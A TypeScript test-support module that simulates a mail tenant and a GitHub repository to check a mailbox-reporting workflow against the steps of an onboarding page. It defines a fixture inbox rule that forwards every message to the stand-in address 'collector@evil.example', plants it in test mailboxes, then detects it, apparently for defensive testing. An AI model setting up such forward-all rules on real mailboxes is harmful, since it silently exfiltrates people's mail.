import { appendFileSync, existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { isRecord, parseJson } from '../../src/json.ts';
import { ISSUER_OF_GITHUB } from '../../tenant/oidc.ts';
import type { RepositoryOptions } from '../../tenant/repository.ts';
import { startTenant, type Tenant } from '../../tenant/tenant.ts';
import { HostedRepository } from '../support/github/hosted-repository.ts';
import { startPerson, type Person } from '../support/github/person.ts';
import type { WorkflowRun } from '../support/github/workflow-run.ts';
import { newFolder } from '../support/new-folder.ts';
import { USUAL_TENANT } from '../support/usual-tenant.ts';
import { firstMonth, type Part, type Section } from './first-month-page.ts';

/** The expiry date of the exemption, which must be in the future whenever the test runs. */
const NEXT_MONTH = new Date(Date.now() + 30 * 86_400_000).toISOString().slice(0, 10);

/** A tenant, its repository, and a person who reads the page. */
export class Month {
  readonly tenant: Tenant;
  readonly repository: HostedRepository;
  readonly person: Person;
  /** The address that replaces `adele@contoso.com`. */
  adele = '';
  readonly #sections: Section[] = [...firstMonth()];

  private constructor(tenant: Tenant, repository: HostedRepository, person: Person) {
    this.tenant = tenant;
    this.repository = repository;
    this.person = person;
  }

  static async start(options: RepositoryOptions = {}): Promise<Month> {
    const oidc = { issuer: ISSUER_OF_GITHUB };
    const tenant = await startTenant({ ...USUAL_TENANT, certificates: [], oidc, repository: options });
    const repository = new HostedRepository({ tenant, home: newFolder() });
    return new Month(tenant, repository, await startPerson(tenant, repository, newFolder()));
  }

  /**
   * Does what the next section of the page says, which has this title: all of its parts, or the first `most`. Returns the newest run.
   * Rejects if the clone then is not on main, or has something to commit or to push.
   */
  async follow(title: string, most?: number): Promise<WorkflowRun> {
    const section = this.#sections.shift();
    if (section?.title !== title)
      throw new Error(`the page goes on with "${section?.title ?? ''}", not with "${title}"`);
    for (const part of section.parts.slice(0, most)) await this.#do(part);
    const state = this.repository.git('-C', this.person.folder(), 'status', '--porcelain', '--branch');
    if (state.trim() !== '## main...origin/main') throw new Error(`after "${title}", git says:\n${state}`);
    return this.newest();
  }

  /** Skips the sections before the one with this title. */
  skipTo(title: string): void {
    this.#sections.splice(
      0,
      this.#sections.findIndex((section) => section.title === title),
    );
  }

  async #do({ text, blocks }: Part): Promise<void> {
    for (const { language, code, about } of blocks) {
      if (language === 'sh') for (const line of code.split('\n')) await this.person.run(this.#filled(line));
      else if (language === 'yaml') this.#append(fileNamedIn(about), code);
      else throw new Error(`a person cannot run a block of ${language}: ${code}`);
    }
    if (blocks.length > 0) return;
    const [, job] = /\bapprove the job `(\w+)`/i.exec(text) ?? [];
    if (job === undefined) throw new Error(`the step has neither a block nor a job to approve: ${text}`);
    await this.newest().approve(job);
  }

  newest(): WorkflowRun {
    const run = this.repository.runs.at(-1);
    if (run === undefined) throw new Error('there is no run');
    return run;
  }

  /** The run of the next morning. */
  nextDay(): Promise<WorkflowRun> {
    return this.repository.run('mailbox-report.yml', 'schedule');
  }

  textOf(file: string): string {
    return readFileSync(path.join(this.person.folder(), file), 'utf8');
  }

  /** Adds an inbox rule to each mailbox that forwards its mail outside. */
  forward(addresses: readonly string[]): void {
    for (const address of addresses) {
      this.tenant.setRules(address, [...(this.tenant.expected(address).rules ?? []), OUTSIDE]);
    }
  }

  /** The mailboxes whose mail such a rule forwards. */
  forwarding(): readonly string[] {
    return this.tenant.addresses.filter((address) => {
      const { rules = [] } = this.tenant.expected(address);
      return rules.some((rule) => rule.isEnabled === true && JSON.stringify(rule).includes(ATTACKER));
    });
  }

  async close(): Promise<void> {
    await this.person.close();
    await this.tenant.close();
  }

  #filled(text: string): string {
    const { runs } = this.repository;
    const own = {
      'adele@contoso.com': this.adele,
      '2027-01-31': NEXT_MONTH,
      RUN_ID: String(runs.at(-1)?.id),
      DIGEST: runs.at(-1)?.outputs['plan-digest'] ?? '',
    };
    return Object.entries(own).reduce((filled, [example, value]) => filled.replaceAll(example, value), text);
  }

  #append(file: string, text: string): void {
    const place = path.join(this.person.folder(), file);
    if (!existsSync(place)) throw new Error(`there is no ${file}`);
    appendFileSync(place, `${this.#filled(text)}\n`);
  }
}

const ATTACKER = 'collector@evil.example';
const OUTSIDE = {
  id: 'AQAAAAAAAAE=',
  displayName: 'Copy',
  sequence: 9,
  isEnabled: true,
  hasError: false,
  isReadOnly: false,
  conditions: {},
  actions: {
    forwardTo: [{ emailAddress: { name: 'Collector', address: ATTACKER } }],
    stopProcessingRules: false,
  },
};

/** The file that the text of a step names last, before its block. */
function fileNamedIn(text: string): string {
  const [before = ''] = text.split('```');
  return [...before.matchAll(/`([\w.-]+\.yml)`/g)].at(-1)?.[1] ?? '';
}

/** The issues and comments on GitHub. */
export function hosted({ repository }: Month): { readonly issues: unknown; readonly comments: unknown } {
  const state: unknown = parseJson(readFileSync(repository.issuesFile, 'utf8'));
  return isRecord(state) ? { issues: state.issues, comments: state.comments } : { issues: [], comments: [] };
}
